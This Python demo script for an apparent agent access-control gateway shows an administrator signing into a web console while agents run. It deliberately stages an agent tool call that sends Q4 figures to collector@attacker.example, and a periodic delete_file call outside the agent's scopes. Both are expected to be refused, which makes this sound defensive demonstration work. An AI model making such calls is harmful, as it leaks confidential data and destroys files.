"""The chapter about the web console: a link signs an administrator in, while agents continue to work."""

from __future__ import annotations

import asyncio
import itertools
import sys
import webbrowser

from mcp import MCPError

from ostiary import ambient
from ostiary.demo.stage import PATIENCE_S, Stage
from ostiary.demo.telling import INDENT, call, chapter, find_refusal, note, out, run, say
from ostiary.protocol.errors import Refused

PAUSE_S = 2.0
DENIED_EVERY = 5
"""Number of calls after which the helper makes a call outside its scopes."""


async def show_console(stage: Stage) -> None:
    """Run the chapter of the demo: invite an administrator, print the link, and open it if a person has a browser
    here.
    """
    chapter("The web console: an administrator signs in, and a request waits for an answer")
    run(stage, "person", "create", "olga", "--generate-key", str(stage.folder / "olga.json"))
    run(stage, "role", "grant", "olga", "administrator")
    link = f"{run(stage, 'person', 'invite', 'olga')['url']}&return_to=/console"
    words = "Tell the partner how Q4 was."
    started = ("--agent", "assistant", "--purpose", "Tell the partner how Q4 was", "--words", words)
    task = run(stage, "task", "start", *started)["task_id"]
    async with stage.client("assistant", task=task) as assistant:
        await call(assistant, "read_file", path="partner.txt")
        await find_refusal(assistant, "send_message", to="collector@attacker.example", text="Q4 was up 5 %.")
    say("open this link once, and choose a passkey or a password:")
    out.print(f"{'':{INDENT}}{link}", markup=False, soft_wrap=True)
    if has_browser() and await asyncio.to_thread(webbrowser.open, link):
        note("The browser opens it.")


def has_browser() -> bool:
    """Return whether standard output is a terminal, on a system with a graphical browser: a text browser would
    cover the demo.
    """
    environment = ambient.environment()
    has_windows = sys.platform in ("darwin", "win32") or bool({"DISPLAY", "WAYLAND_DISPLAY"} & environment.keys())
    return sys.stdout.isatty() and has_windows


async def keep_working(stage: Stage) -> None:
    """Let the helper call tools until this coroutine is cancelled, also after a person has stopped and released the
    helper.
    """
    for number in itertools.count(1):
        try:
            async with asyncio.timeout(PATIENCE_S), stage.client("helper") as helper:
                await call(helper, "read_file", path="reports/q3.txt")
                if number % DENIED_EVERY == 0:
                    await find_refusal(helper, "delete_file", path="reports/q3.txt")
        except* (Refused, MCPError, TimeoutError):
            pass  # a person has stopped the helper in the console
        await asyncio.sleep(PAUSE_S)
